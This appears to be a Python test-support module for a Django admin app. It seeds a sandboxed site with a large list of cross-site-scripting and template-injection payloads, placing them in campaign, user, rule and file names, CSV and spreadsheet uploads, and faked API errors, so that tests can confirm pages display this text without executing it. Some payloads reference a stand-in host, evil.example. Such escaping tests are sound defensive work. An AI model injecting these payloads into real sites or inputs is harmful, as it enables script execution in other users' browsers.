"""Texts that a page must show and never obey, and a site with each of them in every place it can reach."""

import contextlib
import csv
import io
import uuid

from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook

from tests.support.queue import run_jobs, take_jobs
from voisoadmin.accounts.models import User
from voisoadmin.campaigns.models import Campaign
from voisoadmin.connections.models import Connection
from voisoadmin.rules.models import Firing, Rule, StartHold
from voisoadmin.sandbox import Fault, Sandbox
from voisoadmin.uploads.models import Upload

DOES = "alert(1)"
EVIL = "https://evil.example/"
_EVENTS = ("load", "error", "click", "focus", "mouseover", "animationstart", "toggle", "pointerenter", "begin", "beforetoggle")
_TAGS = (
    *("img src=x", "svg", "body", "input autofocus", "details open"),
    *("video src=x", "marquee", "iframe", "style", "object data=x"),
)
_ADDRESSES = (
    f"javascript:{DOES}",
    f"JaVaScRiPt:{DOES}",
    f"java\tscript:{DOES}",
    f" javascript:{DOES}",
    f"\x01javascript:{DOES}",
    f"javascript&colon;{DOES}",
    f"data:text/html,<script>{DOES}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{DOES}",
    f"view-source:javascript:{DOES}",
    "//evil.example/",
    "\\\\evil.example\\",
    EVIL,
    f"https://a@evil.example/?{DOES}",
    f'https://ok.example/"onmouseover="{DOES}',
    f"https://ok.example/'><script>{DOES}</script>",
)
_HTMX = (
    *(f'<b hx-on:{event}="{DOES}">' for event in ("click", "load", "htmx:load", "htmx:after-request", ":before-request")),
    *(f'<b data-hx-on-{event}="{DOES}">' for event in ("click", "load")),
    *(f'<b hx-{verb}="/evil/" hx-trigger="load">' for verb in ("get", "post", "put", "patch", "delete")),
    *(f'<b data-hx-{verb}="/evil/" data-hx-trigger="load delay:1ms">' for verb in ("get", "post")),
    f'<b hx-get="{EVIL}" hx-trigger="load" hx-target="body">',
    f'<b hx-get="/evil/" hx-trigger="load[{DOES}]">',
    f'<b hx-vals="js:{{a:{DOES}}}" hx-get="/evil/" hx-trigger="load">',
    '<b hx-ext="evil" sse-connect="/evil/" ws-connect="/evil/">',
    '<b hx-swap-oob="outerHTML:#main" id="main">gone</b>',
    '<div data-part="evil"><a href="/evil/">part</a></div>',
    '<a data-close href="/evil/">close</a>',
)
_MARKUP = (
    f"<script>{DOES}</script>",
    f"<SCRIPT SRC={EVIL}x.js></SCRIPT>",
    f"<scr<script>ipt>{DOES}</scr</script>ipt>",
    f"</title><script>{DOES}</script>",
    f"</textarea><script>{DOES}</script>",
    f"</style><script>{DOES}</script>",
    f"</script><script>{DOES}</script>",
    f"--><script>{DOES}</script>",
    f"]]><script>{DOES}</script>",
    f"\u003cscript\u003e{DOES}\u003c/script\u003e",
    f"&lt;script&gt;{DOES}&lt;/script&gt;",
    f"%3Cscript%3E{DOES}%3C/script%3E",
    f"\uff1cscript\uff1e{DOES}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{DOES}+ADw-/script+AD4-",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={DOES}>",
    f'<noscript><p title="</noscript><img src=x onerror={DOES}>">',
    f"<template><script>{DOES}</script></template>",
    f'<iframe srcdoc="<script>{DOES}</script>"></iframe>',
    f'<iframe src="javascript:{DOES}"></iframe>',
    f'<object data="javascript:{DOES}"></object>',
    f'<embed src="javascript:{DOES}">',
    f'<form action="javascript:{DOES}"><button>go</button></form>',
    f'<button form="f" formaction="{EVIL}">go</button>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<base href="{EVIL}">',
    f'<link rel="stylesheet" href="{EVIL}x.css">',
    f'<style>@import "{EVIL}x.css";</style>',
    f'<b style="background:url({EVIL})">',
    f'<img src="{EVIL}x.png">',
    f'<svg><use href="{EVIL}x.svg#a"/></svg>',
    f'<svg><a xlink:href="javascript:{DOES}"><text>x</text></a></svg>',
    f'<svg><animate attributeName="href" values="javascript:{DOES}"/></svg>',
    f'<a href="javascript:{DOES}">x</a>',
    '<input name="csrfmiddlewaretoken" value="evil">',
    '<dialog open id="ask">evil</dialog>',
    f"<xss id=x tabindex=1 onfocus={DOES}>",
    f"<svg/onload={DOES}//",
    f'<a href="jav&#x0A;ascript:{DOES}">x</a>',
    f"<image/src/onerror={DOES}>",
    f"<select autofocus onfocus={DOES}><option>x</select>",
    f"<isindex action=javascript:{DOES}>",
    f"<?xml-stylesheet href='javascript:{DOES}'?>",
    f"<!--[if gte IE 4]><script>{DOES}</script><![endif]-->",
    f"<![CDATA[<script>{DOES}</script>]]>",
    f"<x onclick={DOES} hx-trigger='load' hx-get='/evil/'>",
)
_ATTRIBUTES = (
    f'" onmouseover="{DOES}',
    f"' onmouseover='{DOES}",
    f"` onmouseover=`{DOES}",
    f'" autofocus onfocus="{DOES}" x="',
    f'x" style="animation:x" onanimationstart="{DOES}',
    f"x onclick={DOES} ",
    f'\\" onclick=\\"{DOES}',
    f"&#34; onclick=&#34;{DOES}",
    f'">{"<b>" * 9}<img src=x onerror={DOES}>',
)
_TEMPLATES = (
    "{{ 7|add:7 }}",
    "{% debug %}",
    "{% include 'base.html' %}",
    "${alert(1)}",
    "#{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "%s %(x)s {0} {x}",
    "<%= 7*7 %>",
)
_LETTERS = ("\u202e<b>evil</b>", "a\u2028alert(1)", "\ufeff<script>alert(1)</script>", "\U0001f600" * 40, "ﬀ" * 60, "<" * 200)
PAYLOADS = [
    *(f"<{tag} on{event}={DOES}>" for tag, event in zip(_TAGS, _EVENTS, strict=True)),
    *(f'"><{tag} on{event}="{DOES}">' for tag, event in zip(_TAGS, reversed(_EVENTS), strict=True)),
    *_ADDRESSES,
    *_HTMX,
    *_MARKUP,
    *_ATTRIBUTES,
    *_TEMPLATES,
    *_LETTERS,
]
GOOD_NUMBER = "+4474003{:05}"


class HostileSite:
    """Ada's site after hostile text was written into everything."""

    def __init__(self, client: Client, sandbox: Sandbox, ada: User) -> None:
        self.client, self.sandbox, self.ada = client, sandbox, ada
        self.connection = Connection.objects.get()
        self.campaigns = [
            sandbox.add_campaign(text, status=text if number % 2 else "active") for number, text in enumerate(PAYLOADS)
        ]
        for number, text in enumerate(PAYLOADS):
            sandbox.add_user(text, f"{number}{text}@evil.example", teams=[text])
        Connection.objects.filter(pk=self.connection.pk).update(name=PAYLOADS[0])
        User.objects.filter(pk=ada.pk).update(first_name=PAYLOADS[0], last_name=f'"><img src=x onerror={DOES}>')
        for number, text in enumerate(PAYLOADS):
            User.objects.create(username=f"user{number}", first_name=text[:150], last_name=text[:150])
        call_command("sync", stdout=io.StringIO())
        client.force_login(ada)
        voiso_id = next(number for number, text in zip(self.campaigns, PAYLOADS, strict=True) if "<script>" in text)
        sandbox.campaign(voiso_id).status = "active"
        sandbox.campaign(voiso_id).live = True
        call_command("sync", stdout=io.StringIO())
        self.campaign = Campaign.objects.get(voiso_id=str(voiso_id))

    def upload(self, name: str, content: bytes, *, read: bool = True) -> Upload:
        file = SimpleUploadedFile("x", content)
        file._name = name  # as a browser sends it; the setter would clean it
        fields = {"file": file, "client_token": str(uuid.uuid4()), "kind": "add"}
        self.client.post(reverse("uploads:new") + f"?campaign={self.campaign.pk}", fields)
        run_jobs(rounds=500) if read else take_jobs()
        return Upload.objects.latest("pk")

    def click(self, name: str, pk: int, **fields: object) -> None:
        answer = self.client.post(reverse(name, args=[pk]), {"client_token": str(uuid.uuid4()), **fields})
        assert answer.status_code < 500
        run_jobs(rounds=500)

    def make_rules(self) -> list[int]:
        """Rules with these names, and logs with these reasons."""
        now, lines = timezone.now(), [{"weekdays": [0], "at": "17:00", "then": "pause"}]
        sentence = {"any": [{"kind": "times", "lines": lines}], "then": "pause", "zone": "UTC"}
        made = []
        for number, text in enumerate(PAYLOADS):
            name = f"{number}{text}"[:80]
            rule = Rule.objects.create(name=name, sentence=sentence, owner_label=text[:200], looked_since=now, changed_at=now)
            rule.campaigns.add(self.campaign)
            outcome = Firing.Outcome.values[number % len(Firing.Outcome.values)]
            about = {"campaign": self.campaign, "local_date": now.date(), "due_at": now, "decided_at": now}
            rule.firings.create(occurrence="x", change="pause", outcome=outcome, reason=text[:300], is_open=True, **about)
            made.append(rule.pk)
        StartHold.objects.create(campaign=self.campaign, since=now, reason="".join(PAYLOADS)[:300])
        Rule.objects.filter(pk=made[0]).update(sentence="<script>alert(1)</script>")
        return made[:3]

    def write_into_everything(self) -> list[Upload]:
        """Returns an upload of each kind; the others only add names."""
        records = [["Phone", "Name", "Source", "URL"]]
        records += [[GOOD_NUMBER.format(number), text, text, text] for number, text in enumerate(PAYLOADS)]
        records += [[text, text, text, text] for text in PAYLOADS]
        headers = [["Phone", *PAYLOADS[start : start + 90]] for start in range(0, len(PAYLOADS), 90)]
        fours = ["".join(PAYLOADS[start : start + 4]) for start in range(0, len(PAYLOADS), 4)]
        names = [text.replace("/", "\u2215")[:200] + ".csv" for text in fours]
        uploads = [self.upload("rows.csv", as_csv(records))]
        uploads += [self.upload("headers.csv", as_csv([titles, ["n/a", *titles[1:]]])) for titles in headers]
        uploads += [self.upload("sheets.xlsx", workbook()), self.upload("<b>.csv", b"PK\x03\x04<script>alert(1)</script>")]
        self.be_refused(uploads[0])
        received = [self.upload(name, as_csv([["Phone"], ["n/a"]]), read=False) for name in names]
        uploads.append(received[0])
        return uploads

    def ticks(self) -> list[str]:
        """Of the campaigns on the board that may be paused: more than a question names."""
        active = Campaign.objects.filter(status="active").order_by("pk")[:20]
        return [f"{campaign.pk}:active" for campaign in active]

    def be_refused(self, upload: Upload) -> None:
        """Voiso's own words, in each place that repeats them."""
        words = " | ".join(PAYLOADS)
        harm = {"fault": Fault.ODD_JSON, "status": 422, "acted": False}
        people, apply = {"names": "\n".join(PAYLOADS), "do": "add"}, {"step": "apply"}
        for text in (*PAYLOADS[::9], words):
            body = {"success": False, "error": text, "errors": {"name": [text]}, "message": text}
            for target, name, pk, fields in (
                ("operations", "controls:operate", self.campaign.pk, {"change": "pause"}),
                ("people", "assignments:change", self.campaign.pk, {"names": "lena.fischer@example.com", "do": "add", **apply}),
                ("reads", "connections:check", self.connection.pk, {}),
            ):
                self.sandbox.fault(**harm, on=target, times=1, body=body)
                self.click(name, pk, **fields)
                self.sandbox.heal()
        self.sandbox.fault(**harm, on="operations", times=3, body={"error": words})
        self.client.post(reverse("controls:change_many"), {"change": "pause", "campaign": self.ticks()})
        run_jobs(rounds=500)
        self.sandbox.heal()
        self.click("assignments:refresh_roster", self.connection.pk)
        self.click("assignments:change", self.campaign.pk, **people, **apply)
        Connection.objects.update(held_reason="", held_kind="", held_until=None, failures=0)
        self.sandbox.fault(Fault.POISON, numbers=[GOOD_NUMBER.format(1)[1:]], text=words)
        upload.refresh_from_db()
        self.click("uploads:send", upload.pk, version=upload.version)
        self.sandbox.heal()
        for number, text in ((1, PAYLOADS[0]), (2, PAYLOADS[3])):
            Connection.objects.create(
                name=f"{number} {text}", generation="v4", base_url=f"https://cc-{number}.voiso.com", key="k" * 20,
                key_last4=text[:4], held_reason=text, held_kind="key",
            )  # fmt: skip
        with contextlib.suppress(CommandError):  # these two get no answer
            call_command("sync", stdout=io.StringIO())


def as_csv(records: list[list[str]]) -> bytes:
    text = io.StringIO(newline="")
    csv.writer(text).writerows(records)
    return text.getvalue().encode()


def workbook() -> bytes:
    book, stream = Workbook(), io.BytesIO()
    sheet = book.active
    sheet.title = f"<img src=x onerror={DOES}>"
    sheet.append(["Phone", "Name"])
    sheet.append(["n/a", "<script>alert(1)<" + "/script>"])
    for text in (f"<svg onload={DOES}>", '"onfocus="alert(1)', "<b hx-get=evil>", f"<script>{DOES}<>"):
        book.create_sheet(text).append(["Phone"])
    book.save(stream)
    return stream.getvalue()
